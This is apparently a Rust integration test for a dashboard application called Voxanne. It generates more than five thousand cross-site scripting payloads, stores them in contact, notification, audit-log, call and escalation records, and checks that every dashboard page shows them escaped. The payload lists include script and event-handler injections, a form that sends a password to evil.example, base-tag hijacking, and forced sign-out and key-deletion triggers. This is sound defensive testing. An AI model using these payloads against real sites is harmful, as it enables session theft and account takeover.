//! W11: five thousand ways out of a page, where the API takes none of them: names of contacts, entries of the log, notifications and
//! leads, as another door or another version may have left them in the database.

use std::collections::BTreeSet;

use sqlx::AssertSqlSafe;
use voxanne::accounts::Role;

use crate::harness::{Person, Voxanne};

/// Ways out of text, of either kind of attribute, and of elements that hold text alone.
const EXITS: [&str; 24] = [
    "",
    "\">",
    "'>",
    ">",
    "`>",
    "\\\">",
    "-->",
    "--!>",
    "*/",
    "]]>",
    "?>",
    "%>",
    "}}",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</select>",
    "</svg>",
    "</math>",
    "\"/></option></select>",
    "'});//",
];
/// What acts, with the mark of what nobody of ours wrote; `_` separates the parts of a tag.
const ACTS: [&str; 24] = [
    "<script_data-made>alert(1)</script>",
    "<script_data-made_src=data:,alert(1)></script>",
    "<svg_data-made_onload=alert(1)>",
    "<img_data-made_src=x_onerror=alert(1)>",
    "<body_data-made_onload=alert(1)>",
    "<video_data-made><source_onerror=alert(1)>",
    "<input_data-made_autofocus_onfocus=alert(1)>",
    "<details_data-made_open_ontoggle=alert(1)>x</details>",
    "<b_data-made_style=animation:x_onanimationstart=alert(1)>x</b>",
    "<iframe_data-made_src=javascript:alert(1)></iframe>",
    "<iframe_data-made_srcdoc=x></iframe>",
    "<object_data-made_data=javascript:alert(1)></object>",
    "<a_data-made_href=javascript:alert(1)>x</a>",
    "<form_data-made_action=//evil.example><input_name=password>",
    "<base_data-made_href=//evil.example>",
    "<link_data-made_rel=stylesheet_href=//evil.example>",
    "<meta_data-made_http-equiv=refresh_content=0>",
    "<style_data-made>x{}</style>",
    "\"_data-made_autofocus_onfocus=\"alert(1)\"_x=\"",
    "'_data-made_onmouseover='alert(1)'_x='",
    "`_data-made_onclick=alert(1)_x=`",
    "<b_data-made_hx-get=/sign-out_hx-trigger=load>x</b>",
    "<button_data-made_data-api='DELETE_/api/v1/keys/x'>x</button>",
    "<<img_data-made_src=x_onerror=alert(1)//<",
];
/// What separates the parts of a tag.
const SPACES: [&str; 3] = [" ", "/", "\t"];

/// How it is spelled.
const SPELLINGS: [fn(&str) -> String; 9] = [
    str::to_owned,
    |text| {
        text.chars().enumerate().map(|(at, c)| if at % 2 == 0 { c } else { c.to_ascii_uppercase() }).collect()
    },
    |text| text.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;"),
    |text| text.replace('<', "&#60;").replace('>', "&#x3e;"),
    |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
    |text| text.replace('<', "%3C").replace('>', "%3E").replace('"', "%22"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| text.replace('<', "\u{202e}<\u{202c}").replace("on", "o\u{200b}n"),
    |text| text.replace('<', "\u{feff}<").replace('=', "\u{a0}="),
];

fn payloads() -> Vec<String> {
    let mut all = BTreeSet::new();
    for (nth, spelled) in SPELLINGS.iter().enumerate() {
        for (at, act) in ACTS.iter().enumerate() {
            let act = act.replace('_', SPACES[(nth + at) % SPACES.len()]);
            all.extend(EXITS.iter().map(|exit| spelled(&format!("{exit}{act}"))));
        }
    }
    all.into_iter().collect()
}

/// As a page says it in text and in quotes.
fn escaped(text: &str) -> String {
    let escape = |c: char| match c {
        '<' | '>' | '"' | '\'' | '&' => format!("&#{};", u32::from(c)),
        other => other.to_string(),
    };
    text.chars().map(escape).collect()
}

/// Tags that have the mark outside of quotes: in quotes it is a value of ours.
fn made(html: &str) -> Vec<String> {
    let tags = html.match_indices('<').map(|(at, _)| {
        let (mut bare, mut quote) = (String::new(), None);
        for c in html[at..].chars() {
            match quote {
                Some(open) if c == open => quote = None,
                Some(_) => {}
                None if c == '>' => break,
                None if matches!(c, '"' | '\'') => quote = Some(c),
                None => bare.push(c),
            }
        }
        bare
    });
    tags.filter(|bare| bare.to_ascii_lowercase().contains("data-made")).collect()
}

/// One field of all kinds for each of these.
async fn write(vox: &Voxanne, fields: &[String]) {
    let rows = "from unnest($2::text[]) with ordinality t (f, n), lateral (select gen_random_uuid() as id, '2026-11-24T17:00:00Z'::timestamptz - n * interval '1 second' as at) l";
    for into in [
        "contacts (org_id, id, phone, name, created_at) select $1::uuid, id, '+1310555' || (1000 + n), f, at",
        "notifications (org_id, id, kind, title, dedupe_key, created_at) select $1::uuid, id, 'hot_lead', f, 'w11:' || n, at",
        "audit_log (org_id, id, actor, action, subject, detail, at) select $1::uuid, id, f, f, f, jsonb_build_object(f, f), at",
        "calls (org_id, id, call_ref, state, created_at, ended_at, report_at, scored_at, class, score, temperature, evidence, interest, summary)
           select $1::uuid, id, 'w11:' || n, 'ended', at, at, at, at, 'new_lead', 80, 'hot', '[]', f, f",
        "escalations (org_id, id, kind, call_ref, lead_name, about, raised_at, due_at, closed_at)
           select $1::uuid, id, 'hot_lead', 'w11:' || n, f, f, at, at, at",
    ] {
        let sql = format!("insert into {into} {rows}");
        let done = sqlx::query(AssertSqlSafe(sql)).bind(vox.glow.org.0).bind(fields).execute(&vox.admin).await;
        assert_eq!(done.map(|done| done.rows_affected()).ok(), u64::try_from(fields.len()).ok(), "{into}");
    }
}

/// All parts of a list, one after the other.
async fn read(person: &Person, list: &str) -> String {
    let (mut all, mut path) = (String::new(), Some(list.to_owned()));
    while let Some(at) = path {
        let page = person.page(&at).await;
        assert_eq!(page.status, 200, "{at}");
        let older =
            page.text.rsplit("href=\"").find(|rest| rest.starts_with(list) && rest.contains("after="));
        path = older.and_then(|rest| rest.split('"').next()).map(|to| to.replace("&amp;", "&"));
        all.push_str(&page.text);
    }
    all
}

#[tokio::test]
async fn w11_of_five_thousand_names_notices_and_entries_each_is_text_on_its_page() {
    let all = payloads();
    assert!(all.len() >= 5000, "{}", all.len());
    let acts = all.iter().filter(|one| !made(&format!("<p title=\"{one}\">{one}</p>")).is_empty()).count();
    assert!(acts > 2000, "of {acts} alone it would be seen what they do where nothing is encoded");
    let vox = Voxanne::start().await;
    let owner = vox.glow_staff(Role::Owner).await;
    let fields: Vec<String> = all.chunks(25).map(|part| part.join(" ")).collect();
    write(&vox, &fields).await;
    for list in ["contacts", "notifications", "audit", "leads", "calls"] {
        let seen = read(&owner, &format!("/dashboard/{list}")).await;
        assert_eq!(made(&seen), [""; 0], "{list}");
        let missing = fields.iter().find(|field| !seen.contains(&escaped(field)));
        assert_eq!(missing, None, "{list} does not show them as they are");
    }
}
